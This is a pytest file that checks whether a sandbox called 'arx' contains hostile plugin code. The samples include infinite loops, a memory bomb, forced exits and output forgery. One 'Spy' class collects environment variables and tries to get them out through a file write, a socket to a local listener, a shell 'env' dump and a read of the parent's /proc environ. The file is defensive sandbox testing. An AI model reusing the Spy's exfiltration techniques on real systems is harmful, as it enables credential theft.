"""Hostile mechanisms, fed the way an attacker would: `arx mechanism add` on a run branch, then
`arx run --resume`. The runner runs in a sandboxed worker; whatever a mechanism does there, arx
keeps running, reverts the right mechanism, and never keeps a worse metric.

Every mechanism here passes the gate's drive and misbehaves only in a real run: it tells the two
apart by the parameters (the drive tunes LEARNING_RATE, the toy target LR), so the fault must be
caught at run time. A few need what the gate's allow-list refuses (``os``, ``socket``); for them
``lint_misses`` switches the allow-list off, as an escape it does not know yet would.
"""

from __future__ import annotations

import json
import shutil
import socket
import threading
import time

import git
import pytest
import tomlkit
from click.testing import CliRunner

from arx.cli.main import cli
from arx.core.levels import gate
from arx.core.levels.worker import RunnerWorker

from support.repos import make_toy_repo
from support.scripted_model import responder

#: a hook's test that it runs for real (the gate's drive tunes LEARNING_RATE)
REAL = "'LEARNING_RATE' not in ctx['best_config']"
HOOK_TIMEOUT = 1.0
#: how long past its deadline a hook may hold the run (killing, restarting, a git revert)
GRACE = 10.0


def invoke(root, *args):
    return CliRunner().invoke(cli, ["-C", str(root), *args], catch_exceptions=False)


def mech(name, code, init=None, extra=()):
    """A mechanism: ``code`` (a class named ``name``, imports above it) and its integration."""
    return {"name": name, "domain": "attack", "description": "hostile", "patches": [
        {"kind": "new_helper_class", "name": name, "target": None, "code": code},
        {"kind": "modify_init", "name": name, "target": None,
         "code": init or f"self.mechanisms.append({name}())"}, *extra]}


def hook(name, signature, body, header=""):
    """A class with one hook whose ``body`` runs only in a real run."""
    lines = "\n".join("            " + line for line in body.splitlines())
    default = {"focus": "None", "filter_candidates": "candidates"}.get(signature.split("(")[0])
    tail = f"        return {default}\n" if default else ""
    return (f"{header}class {name}:\n    def {signature}:\n        if {REAL}:\n{lines}\n{tail}")


def make_run(root, tmp_path, *args, **tables):
    """A run `r` of one iteration with a 1 s hook deadline (and ``tables`` in arx.toml)."""
    doc = tomlkit.parse((root / "arx.toml").read_text())
    doc.setdefault("levels", tomlkit.table())["hook_timeout"] = HOOK_TIMEOUT
    for table, values in tables.items():
        for key, value in values.items():
            doc.setdefault(table, tomlkit.table())[key] = value
    (root / "arx.toml").write_text(tomlkit.dumps(doc))
    git.Repo(root).git.commit("-qam", "short hook deadline")
    out = invoke(root, "run", "--name", "r", "--iterations", "1", "--quiet", *args)
    assert out.exit_code == 0, out.output
    return Run(root, tmp_path)


@pytest.fixture(scope="module")
def base_run(tmp_path_factory):
    """One run `r` of one iteration with a 1 s hook deadline, made once for the module."""
    tmp = tmp_path_factory.mktemp("base")
    return make_run(make_toy_repo(tmp / "project"), tmp).root


@pytest.fixture
def run(base_run, tmp_path):
    """A copy of ``base_run`` (its worktree is gone after the run), ready for mechanisms."""
    root = tmp_path / "project"
    shutil.copytree(base_run, root, symlinks=True)
    return Run(root, tmp_path)


@pytest.fixture
def lint_misses(monkeypatch):
    """The gate's allow-list finds nothing, as for an escape it does not know yet."""
    monkeypatch.setattr(gate, "check_safety", lambda source, template_source=None: [])


class Run:
    def __init__(self, root, tmp_path):
        self.root = root
        self.tmp = tmp_path

    def add(self, mechanism):
        path = self.tmp / f"{mechanism['name']}.json"
        path.write_text(json.dumps(mechanism))
        out = invoke(self.root, "mechanism", "add", str(path), "--run", "r")
        assert out.exit_code == 0 and "passed the gate" in out.output, out.output
        return out

    def resume(self, iterations=6):
        """Resume to ``iterations``; arx must end normally, in bounded time."""
        start = time.monotonic()
        out = invoke(self.root, "run", "--resume", "r", "--iterations", str(iterations),
                     "--quiet")
        took = time.monotonic() - start
        assert out.exit_code == 0, out.output
        assert "r: best" in out.output  # the final summary: arx did not end on the way
        trials = [e for e in self.trace() if e.get("event") == "trial" and e["kind"] == "trial"]
        assert [t["iteration"] for t in trials] == list(range(1, iterations + 1))
        assert_kept_metrics_strictly_improve(self.trace())
        return took

    def trace(self):
        text = git.Repo(self.root).git.show("arx/r:runs/r/trace.jsonl")
        return [json.loads(line) for line in text.splitlines()]

    def level2(self):
        return [(e["mechanism"], e["verdict"]) for e in self.trace() if e.get("event") == "level2"]

    def reverted(self):
        return [e for e in self.trace() if e.get("verdict") == "runtime_revert"]

    def runner(self):
        return git.Repo(self.root).git.show("arx/r:runner/runner.py")


def assert_kept_metrics_strictly_improve(trace):
    kept = [e["metric"] for e in trace if e.get("event") == "trial"
            and e.get("status") in ("baseline", "keep")]
    assert all(b < a for a, b in zip(kept, kept[1:])), kept


def assert_reverted(run, name, hook, kind, words=""):
    (event,) = run.reverted()
    assert (event["mechanism"], event["hook"], event["fault"]) == (name, hook, kind), event
    assert words in event["error"], event["error"]
    assert f"class {name}" not in run.runner()
    subjects = [c.summary for c in git.Repo(run.root).iter_commits("arx/r")]
    assert f"Revert L2 mechanism {name}: {hook} failed at run time" in subjects


# ---- the run goes on, the right mechanism is reverted -----------------------------------------


def test_system_exit_in_observe_is_a_fault_not_the_end_of_arx(run):
    run.add(mech("Quitter", hook("Quitter", "observe(self, ctx, record)", "raise SystemExit(0)")))
    run.resume()
    assert_reverted(run, "Quitter", "observe", "exception", "SystemExit")


def test_os_exit_kills_only_the_worker(run, lint_misses):
    run.add(mech("Exiter", hook("Exiter", "focus(self, ctx)", "os._exit(0)",
                                header="import os\n\n\n")))
    run.resume()
    assert_reverted(run, "Exiter", "focus", "exit", "exited with code 0 during focus")


@pytest.mark.parametrize("name, body, header", [
    ("Swallower", "while True:\n    try:\n        sum(range(10**6))\n"
                  "    except BaseException:\n        pass", ""),
    ("CLoop", "collections.deque(itertools.repeat(None), maxlen=0)",
     "import collections\nimport itertools\n\n\n"),
])
@pytest.mark.serial  # timed against live processes: not beside another test's load
def test_a_hook_that_never_returns_is_killed_at_its_deadline(run, name, body, header):
    run.add(mech(name, hook(name, "focus(self, ctx)", body, header=header)))
    took = run.resume()
    assert took < HOOK_TIMEOUT + GRACE + 10  # one deadline, then the iterations (~1 s)
    assert_reverted(run, name, "focus", "deadline", f"while {name}.focus ran")


@pytest.mark.serial  # timed against live processes: not beside another test's load
def test_hooks_that_stay_just_under_the_deadline_are_reverted_as_slow(run, lint_misses):
    """0.6 s in focus and 0.6 s in filter_candidates: each call within the 1 s deadline, but
    1.2 s of hooks against toy trials of a few hundredths of a second, every iteration."""
    code = ("import time\n\n\nclass Dawdler:\n"
            f"    def focus(self, ctx):\n        if {REAL}:\n            time.sleep(0.6)\n"
            "        return None\n\n"
            f"    def filter_candidates(self, ctx, candidates):\n        if {REAL}:\n"
            "            time.sleep(0.6)\n        return candidates\n")
    run.add(mech("Dawdler", code))
    took = run.resume()
    (event,) = run.reverted()
    # the runner hook arx waited on longest (build_prompt asks the mechanisms' focus too)
    assert_reverted(run, "Dawdler", event["hook"], "slow", "more than 25% of the iteration")
    assert event["hook"] in ("build_prompt", "focus", "filter_candidates")
    assert event["iteration"] == 3  # iterations 2 and 3 were slow; 4-6 ran without it
    assert took < 4 * 2.4 + GRACE


@pytest.mark.serial  # timed against live processes: not beside another test's load
def test_a_memory_bomb_is_stopped_in_the_worker(run):
    body = "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 28))"
    run.add(mech("Hoarder", hook("Hoarder", "filter_candidates(self, ctx, candidates)", body)))
    run.resume()
    (event,) = run.reverted()
    assert event["mechanism"] == "Hoarder" and event["fault"] in ("exception", "deadline")
    assert "MemoryError" in event["error"] or "took longer" in event["error"]


def test_a_monkeypatched_standard_class_stays_in_the_worker(run):
    forge = "json.JSONEncoder.encode = lambda self, o: '{\"forged\": true}'"
    run.add(mech("Forger", hook("Forger", "observe(self, ctx, record)", forge,
                                header="import json\n\n\n")))
    run.resume()
    assert all("forged" not in e for e in run.trace())  # arx's trace was written by arx
    assert json.JSONEncoder().encode({"a": 1}) == '{"a": 1}'
    (event,) = run.reverted()  # the worker's own answers were forged: a fault, reverted
    assert event["mechanism"] == "Forger"


def test_a_sleeper_raising_on_its_third_real_call_is_reverted_and_nothing_is_rerun(run):
    code = ("class Sleeper:\n    def __init__(self):\n        self.calls = 0\n\n"
            f"    def observe(self, ctx, record):\n        if {REAL}:\n"
            "            self.calls += 1\n            if self.calls == 3:\n"
            "                raise ValueError('third call')\n")
    run.add(mech("Sleeper", code))
    run.resume()
    assert_reverted(run, "Sleeper", "observe", "exception", "third call")
    starts = [e["iteration"] for e in run.trace() if e.get("event") == "start"
              and e["kind"] == "trial"]
    assert starts == [1, 2, 3, 4, 5, 6]  # the trial being decided was not trained again


def test_an_init_that_fails_only_with_the_real_config_is_reverted(run):
    code = ("class Picky:\n    def __init__(self, config):\n"
            "        if config['group'] != 'C':\n"
            "            raise KeyError('not my group')\n")
    run.add(mech("Picky", code, init="self.mechanisms.append(Picky(config))"))
    run.resume()
    assert_reverted(run, "Picky", "__init__", "load", "not my group")


def test_a_filter_that_returns_ints_is_reverted(run):
    run.add(mech("Ints", hook("Ints", "filter_candidates(self, ctx, candidates)", "return [1, 2]")))
    run.resume()
    assert_reverted(run, "Ints", "filter_candidates", "invalid", "not a dict with a dict")


def test_a_filter_that_leaves_nothing_is_reverted_after_three_iterations(run):
    run.add(mech("Nothing", hook("Nothing", "filter_candidates(self, ctx, candidates)",
                                 "return []")))
    run.resume(8)
    assert_reverted(run, "Nothing", "filter_candidates", "no_progress", "in 3 iterations in a row")
    invalid = [e["iteration"] for e in run.trace() if e.get("status") == "invalid_proposal"]
    assert invalid == [2, 3]  # the third iteration was asked again, without the mechanism


def test_a_huge_n_candidates_is_capped(run):
    run.add(mech("Greedy", "class Greedy:\n    def focus(self, ctx):\n        return None\n",
                 init="self.n_candidates = 10**7\nself.mechanisms.append(Greedy())"))
    run.resume(3)
    asked = [e["candidates"] for e in run.trace() if e.get("event") == "trial"
             and e["kind"] == "trial" and e["iteration"] > 1]
    assert asked == [16, 16] and run.reverted() == []


def test_a_hook_that_empties_the_context_changes_nothing_of_arx(run):
    body = "ctx['history'].clear()\nctx['best_config'].clear()\nctx['active'].clear()"
    run.add(mech("Wiper", hook("Wiper", "observe(self, ctx, record)", body)))
    run.resume(4)
    assert run.reverted() == []  # not a fault: it only wiped its own copy
    run.resume(6)  # and the run resumes again, with the same mechanism
    trials = [e for e in run.trace() if e.get("event") == "trial" and e["kind"] == "trial"]
    assert all(t["config"] and t["best_before"] is not None for t in trials)


def test_an_accept_that_always_keeps_is_overruled_for_worse_metrics(run):
    run.add({"name": "Yes", "domain": "attack", "patches": [
        {"kind": "replace_method", "name": "Yes", "target": "accept",
         "code": "def accept(self, ctx, metrics, best_metrics):\n    return True\n"}]})
    run.resume(12)
    trials = [e for e in run.trace() if e.get("event") == "trial" and e["kind"] == "trial"
              and e["iteration"] > 1 and e.get("metric") is not None]
    overruled = [t for t in trials if t.get("overruled")]
    assert overruled and all(t["status"] == "discard" and t["metric"] >= t["best_before"]
                             for t in overruled)
    assert all(t["metric"] < t["best_before"] for t in trials if t["status"] == "keep")


def test_with_two_mechanisms_the_faulting_older_one_is_reverted(run):
    run.add(mech("Older", hook("Older", "observe(self, ctx, record)", "raise RuntimeError('old')")))
    run.add(mech("Newer", "class Newer:\n    def observe(self, ctx, record):\n"
                          "        self.seen = record['iteration']\n"))
    run.resume()
    assert_reverted(run, "Older", "observe", "exception", "old")
    assert "class Newer" in run.runner()
    assert ("Newer", "pass") in run.level2()


def test_a_mechanism_that_passes_for_another_is_still_the_one_reverted(run, lint_misses):
    """Forger renames its class Calm: the worker's account blames Calm. arx takes each active
    mechanism out in turn and asks the same call again: without Forger it succeeds."""
    run.add(mech("Calm", hook("Calm", "filter_candidates(self, ctx, candidates)", "pass")))
    code = ("class Forger:\n    def __init__(self):\n        type(self).__name__ = 'Calm'\n\n"
            f"    def filter_candidates(self, ctx, candidates):\n        if {REAL}:\n"
            "            raise ValueError('forged')\n        return candidates\n")
    run.add(mech("Forger", code))
    run.resume()
    (event,) = run.reverted()
    assert (event["mechanism"], event["blame"]) == ("Forger", "observed"), event
    assert "class Calm" in run.runner() and "class Forger" not in run.runner()


def test_a_replaced_runner_method_that_fails_blames_the_mechanism_that_replaced_it(run):
    run.add(mech("Innocent", "class Innocent:\n    def focus(self, ctx):\n        return None\n"))
    run.add({"name": "Picker", "domain": "attack", "patches": [
        {"kind": "replace_method", "name": "Picker", "target": "select",
         "code": f"def select(self, ctx, candidates):\n    if {REAL}:\n"
                 "        return {'changes': {'LR': 1}}\n    return candidates[0]\n"}]})
    run.resume(3)
    assert_reverted(run, "Picker", "select", "invalid", "not one of the candidates")
    assert "class Innocent" in run.runner()


# ---- what mechanism code can see and reach -----------------------------------------------------

SPY = """import os
import socket
import subprocess


class Spy:
    def filter_candidates(self, ctx, candidates):
        if 'LEARNING_RATE' in ctx['best_config']:
            return candidates
        seen = dict(os.environ)
        notes = []
        for what, attempt in (
                ("file", lambda: open(OUTSIDE, "w").write(repr(seen))),
                ("cwd", lambda: open("here.txt", "w").write(repr(seen))),
                ("net", lambda: socket.create_connection(("127.0.0.1", PORT), 1).sendall(
                    repr(seen).encode())),
                ("shell", lambda: subprocess.run(["/bin/sh", "-c", "env > " + SHELL], timeout=2)),
                ("parent", lambda: open(f"/proc/{os.getppid()}/environ").read())):
            try:
                out = attempt()
                notes.append(what + ":ok" + (":KEY" if "-secret" in str(out) else ""))
            except Exception as e:
                notes.append(what + ":" + type(e).__name__)
        marker = "SPY " + " ".join(notes) + " ENV " + ",".join(sorted(seen))
        return [dict(c, hypothesis=marker) for c in candidates]

    def extend_prompt(self, ctx, lines):
        return lines + ["SEEN " + repr(dict(os.environ))]
"""


KEYS = ("planted-secret", "planted-credential", "planted-dsn")


def test_mechanism_code_never_sees_the_key(toy_repo, tmp_path, llm_server, lint_misses,
                                          monkeypatch):
    monkeypatch.setenv("ARX_API_KEY", KEYS[0])
    monkeypatch.setenv("MY_CRED", KEYS[1])  # [llm] api_key_env names it
    monkeypatch.setenv("SENTRY_DSN", f"https://{KEYS[2]}@sentry.example/1")  # looks harmless
    llm_server.responder = responder([])
    run = make_run(toy_repo, tmp_path, "--llm", llm_server.base_url, "--model", "test-model",
                   llm={"api_key_env": "MY_CRED"})
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    received, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(1 << 16))
            conn.close()
    watcher = threading.Thread(target=accept, daemon=True)
    watcher.start()
    outside, shell = tmp_path / "outside.txt", tmp_path / "shell.txt"
    code = SPY.replace("OUTSIDE", repr(str(outside))).replace("SHELL", repr(str(shell))) \
        .replace("PORT", str(listener.getsockname()[1]))
    try:
        run.add(mech("Spy", code))
        run.resume(3)
    finally:
        stop.set()
        watcher.join()
        listener.close()
    hypotheses = [e.get("hypothesis", "") for e in run.trace() if e.get("event") == "trial"]
    spied = [h for h in hypotheses if h.startswith("SPY ")]
    assert spied, hypotheses  # the code ran in the real run
    names = spied[0].split(" ENV ")[1].split(",")
    assert not {"ARX_API_KEY", "MY_CRED", "SENTRY_DSN"} & set(names) and "PATH" in names
    assert ":KEY" not in spied[0]
    prompts = [m["content"] for r in llm_server.chat_requests for m in r["body"]["messages"]]
    assert any("SEEN " in p for p in prompts)  # what it saw went into the prompt...
    assert not any(key in p for p in prompts for key in KEYS)  # ...and that was never a key
    assert all(key.encode() not in data for data in received for key in KEYS)
    for path in (outside, shell):
        assert not path.exists() or not any(key in path.read_text() for key in KEYS)
    log = git.Repo(run.root).git.log("-p", "arx/r")
    assert not any(key in log for key in KEYS)
    held = sandbox()
    if held.get("readonly"):  # bwrap: it sees neither the file's directory nor arx
        assert "file:FileNotFoundError" in spied[0]  # its parent is bwrap's init, not arx
        assert not outside.exists()
    if held.get("landlock"):
        assert "file:PermissionError" in spied[0] and "parent:PermissionError" in spied[0]
        assert not outside.exists()
    if held.get("netns") or held.get("seccomp"):
        assert "net:ok" not in spied[0] and received == []
    if held.get("seccomp"):
        assert "shell:PermissionError" in spied[0] and not shell.exists()


def sandbox():
    with RunnerWorker(5.0) as worker:
        return worker.start()


# ---- refused before the gate -------------------------------------------------------------------


def test_a_mechanism_over_the_size_limit_is_refused_before_the_gate(run):
    padding = "\n".join(f"    x{i} = {i}" for i in range(60_000))  # ~1.1 MB of class body
    path = run.tmp / "big.json"
    path.write_text(json.dumps(mech("Big", f"class Big:\n{padding}\n")))
    start = time.monotonic()
    out = CliRunner().invoke(cli, ["-C", str(run.root), "mechanism", "add", str(path), "--run",
                                   "r"])
    assert out.exit_code == 1 and "more than 64 kB ([levels] max_mechanism_kb)" in out.output
    assert "(nothing written)" in out.output and time.monotonic() - start < 10
    assert "class Big" not in run.runner()


def test_a_patch_file_that_is_not_utf8_is_a_clear_error(run):
    path = run.tmp / "latin1.json"
    path.write_bytes(json.dumps(mech("Caf", "class Caf:\n    pass\n")).encode().replace(
        b"hostile", "caf\u00e9".encode("latin-1")))
    out = CliRunner().invoke(cli, ["-C", str(run.root), "mechanism", "add", str(path), "--run",
                                   "r"])
    assert out.exit_code == 1 and "not UTF-8 text" in out.output
    assert "save the patch file as UTF-8" in out.output and "Traceback" not in out.output


def test_nested_brackets_that_crash_libcst_are_refused_and_leave_nothing_behind(run):
    path = run.tmp / "deep.json"
    path.write_text(json.dumps(mech("Deep", "class Deep:\n    x = " + "[" * 10_000 +
                                    "]" * 10_000 + "\n")))
    before = git.Repo(run.root).git.rev_parse("arx/r")
    out = CliRunner().invoke(cli, ["-C", str(run.root), "mechanism", "add", str(path), "--run",
                                   "r"])
    assert out.exit_code == 1 and "nests brackets deeper than 100" in out.output, out.output
    changed = git.Repo(run.root).git.diff("--name-only", before, "arx/r").split()
    # the refusal is noted with the patch it refused (for replay); the runner is untouched
    assert set(changed) <= {"runs/r/trace.jsonl", "runs/r/mechanisms/01-Deep.json"}
    assert "class Deep" not in run.runner()
    assert git.Repo(run.root).git.status("--porcelain") == ""


# ---- replay of a stranger's branch -------------------------------------------------------------


def test_replay_of_a_branch_with_no_deadline_and_a_hostile_stored_mechanism_ends(
        toy_repo, tmp_path, monkeypatch):
    """A stranger's branch records ``hook_timeout = 0`` (no deadline) and, in a commit after
    the run, swaps its hand-added mechanism's stored patch for one that never returns. The
    replay (what CI runs on branches it did not make) keeps its own deadline and ends."""
    from arx.core.replay import sessions

    run = make_run(toy_repo, tmp_path, levels={"hook_timeout": 0})
    calm = mech("Looper", hook("Looper", "focus(self, ctx)", "pass  # calm"))
    run.add(calm)
    run.resume(3)
    repo = git.Repo(run.root)
    stored = next(p for p in repo.git.ls_tree("-r", "--name-only", "arx/r").split()
                  if p.endswith("-Looper.json"))
    hostile = json.loads(repo.git.show(f"arx/r:{stored}"))
    hostile["patches"][0]["code"] = hook("Looper", "focus(self, ctx)", "while True:\n    pass")
    repo.git.checkout("-q", "arx/r")
    (run.root / stored).write_text(json.dumps(hostile))
    repo.git.commit("-qam", "a stranger's edit")
    repo.git.checkout("-q", "main")
    monkeypatch.setattr(sessions, "REPLAY_HOOK_CAP_S", 1.0)
    start = time.monotonic()
    out = invoke(run.root, "replay", "arx/r")
    assert time.monotonic() - start < GRACE + 20, out.output
    assert out.exit_code == 1 and "DIVERGED" in out.output, out.output
    assert "Looper" in out.output
